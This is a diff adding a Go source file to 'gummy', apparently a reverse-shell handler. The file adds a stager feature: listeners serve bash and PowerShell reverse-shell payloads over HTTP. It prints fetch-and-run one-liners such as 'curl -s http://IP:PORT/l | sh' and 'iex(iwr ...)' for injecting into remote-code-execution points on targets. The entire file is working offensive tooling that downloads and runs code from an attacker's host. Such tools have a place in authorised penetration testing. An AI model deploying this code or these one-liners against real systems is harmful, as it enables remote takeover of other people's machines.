@@ -0,0 +1,141 @@
+package internal
+
+import (
+	"bufio"
+	"bytes"
+	"fmt"
+	"net"
+	"net/http"
+	"time"
+
+	"github.com/chsoares/gummy/internal/ui"
+)
+
+// Stagers
+//
+// With "stager on", listeners also answer HTTP requests for short URLs with the
+// full reverse shell payload, so an RCE field only needs a one-liner and the
+// shell comes back on the same port:
+//
+//	curl -s http://IP:PORT/l | sh                        linux (bash payload)
+//	iex(iwr -UseBasicParsing http://IP:PORT/w)           windows (PowerShell payload)
+//
+// Shells stay silent until gummy talks first, so a connection whose first bytes
+// are an HTTP request line is a stager download.
+
+// stagerPayloads maps the stager paths to the catalogue payload they return
+var stagerPayloads = map[string]string{
+	"/l": "bash",
+	"/w": "powershell",
+}
+
+// stagerReadTimeout bounds how long a client may take to send its request
+const stagerReadTimeout = 5 * time.Second
+
+// SetStager enables/disables stager downloads on the listeners
+func (m *Manager) SetStager(enabled bool) {
+	m.fwdMu.Lock()
+	m.stager = enabled
+	m.fwdMu.Unlock()
+}
+
+// StagerEnabled reports whether listeners serve stager downloads
+func (m *Manager) StagerEnabled() bool {
+	m.fwdMu.Lock()
+	defer m.fwdMu.Unlock()
+	return m.stager
+}
+
+// isHTTPRequest reports whether the first bytes sniffed from a connection are an HTTP request
+func isHTTPRequest(conn net.Conn) bool {
+	peek, ok := conn.(*peekConn)
+	if !ok {
+		return false
+	}
+	return bytes.HasPrefix(peek.buf, []byte("GET ")) || bytes.HasPrefix(peek.buf, []byte("HEAD "))
+}
+
+// serveStager answers a stager download with the payload calling back to this listener
+func (l *Listener) serveStager(conn net.Conn) {
+	defer conn.Close()
+
+	conn.SetReadDeadline(time.Now().Add(stagerReadTimeout))
+	req, err := http.ReadRequest(bufio.NewReader(conn))
+	if err != nil {
+		return
+	}
+	conn.SetReadDeadline(time.Time{})
+
+	status, body := http.StatusNotFound, "Not Found\n"
+	if name, ok := stagerPayloads[req.URL.Path]; ok {
+		gen := NewReverseShellGenerator(l.PayloadIP(), l.port)
+		if script, err := gen.Script(name); err == nil {
+			status, body = http.StatusOK, script+"\n"
+		}
+	}
+
+	fmt.Fprintf(conn, "HTTP/1.0 %d %s\r\nContent-Type: text/plain\r\nContent-Length: %d\r\nConnection: close\r\n\r\n",
+		status, http.StatusText(status), len(body))
+	if req.Method != http.MethodHead {
+		conn.Write([]byte(body))
+	}
+
+	host, _, _ := net.SplitHostPort(conn.RemoteAddr().String())
+	if status == http.StatusOK && req.Method != http.MethodHead {
+		l.sessionManager.notify(ui.Info(fmt.Sprintf("Stager %s downloaded by %s", req.URL.Path, host)))
+	}
+}
+
+// stagerCommands returns the one-liners that fetch the stagers of a listener
+func stagerCommands(l *Listener) [][2]string {
+	base := "http://" + l.Address()
+	return [][2]string{
+		{"linux", fmt.Sprintf("curl -s %s/l | sh", base)},
+		{"", fmt.Sprintf("wget -qO- %s/l | sh", base)},
+		{"windows", fmt.Sprintf("iex(iwr -UseBasicParsing %s/w)", base)},
+		{"", fmt.Sprintf("powershell -nop -c \"iex(iwr -UseBasicParsing %s/w)\"", base)},
+	}
+}
+
+// ShowStager prints the stager state and the one-liners of every listener
+func (m *Manager) ShowStager() {
+	if !m.StagerEnabled() {
+		fmt.Println(ui.Info("Stagers are off (use 'stager on')"))
+		return
+	}
+
+	var lines []string
+	for i, l := range m.GetListeners() {
+		if i > 0 {
+			lines = append(lines, "")
+		}
+		lines = append(lines, ui.CommandHelp(fmt.Sprintf("listener %d (%s)", l.ID(), l.Address())))
+		for _, c := range stagerCommands(l) {
+			lines = append(lines, ui.Command(fmt.Sprintf("%-8s %s", c[0], c[1])))
+		}
+	}
+
+	fmt.Println(ui.BoxWithTitle(fmt.Sprintf("%s Stagers", ui.SymbolGem), lines))
+}
+
+// handleStager handles the stager command
+// stager          - show state and one-liners
+// stager on|off   - serve stagers on the listeners
+func (m *Manager) handleStager(args []string) {
+	if len(args) == 0 {
+		m.ShowStager()
+		return
+	}
+
+	switch args[0] {
+	case "on":
+		m.SetStager(true)
+		fmt.Println(ui.Success("Listeners now serve stagers over HTTP"))
+		m.ShowStager()
+	case "off":
+		m.SetStager(false)
+		fmt.Println(ui.Success("Stagers disabled"))
+	default:
+		fmt.Println(ui.CommandHelp("Usage: stager [on|off]"))
+	}
+}